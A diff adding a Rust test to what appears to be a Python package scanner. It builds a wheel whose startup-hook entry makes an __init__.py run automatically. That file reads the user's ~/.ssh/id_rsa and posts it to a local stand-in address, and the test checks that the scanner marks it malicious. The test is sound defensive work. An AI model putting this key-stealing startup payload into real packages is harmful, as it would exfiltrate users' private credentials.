@@ -104,3 +104,37 @@ fn docstrings_that_show_code_are_not_code() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
     assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("pkg-1.0-py3-none-any.whl");
+    let mut z = zip::ZipWriter::new(std::fs::File::create(&p).unwrap());
+    let files = [
+        ("pkg.start", "pkg.hook:run\n"),
+        (
+            "pkg/__init__.py",
+            "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+        ),
+    ];
+    for (name, data) in files {
+        z.start_file(name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        z.write_all(data.as_bytes()).unwrap();
+    }
+    z.finish().unwrap();
+    let r = inspect(&read(&p, &Limits::default()).unwrap());
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(
+        r.findings.iter().any(|f| f.path == "pkg/__init__.py"
+            && f.phase == custody_inspect::analysis::Phase::Startup
+            && f.code == "custody::secret-access"),
+        "{:#?}",
+        r.findings
+    );
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.path == "pkg.start" && f.code == "custody::startup-hook")
+    );
+}
